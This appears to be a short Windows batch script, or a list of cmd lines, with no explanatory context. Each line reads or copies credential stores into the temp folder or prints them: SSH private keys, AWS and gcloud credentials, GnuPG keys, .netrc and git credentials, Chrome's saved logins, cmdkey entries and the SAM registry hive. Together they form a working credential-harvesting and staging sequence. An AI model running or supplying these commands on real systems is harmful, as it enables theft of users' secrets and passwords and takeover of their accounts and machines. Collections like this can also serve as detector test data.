type %USERPROFILE%\.ssh\id_rsa
copy "%USERPROFILE%\.aws\credentials" %TEMP%
xcopy /s "%HOMEDRIVE%%HOMEPATH%\.ssh" %TEMP%\k
robocopy %USERPROFILE%\.gnupg %TEMP%\g
type "%APPDATA%\gcloud\credentials.db"
copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" %TEMP%
set H=%USERPROFILE%
type %H%\.netrc
for /f %%i in (%USERPROFILE%\.git-credentials) do echo %%i
cmdkey /list
reg save HKLM\SAM %TEMP%\sam
more < %USERPROFILE%\.ssh\id_rsa
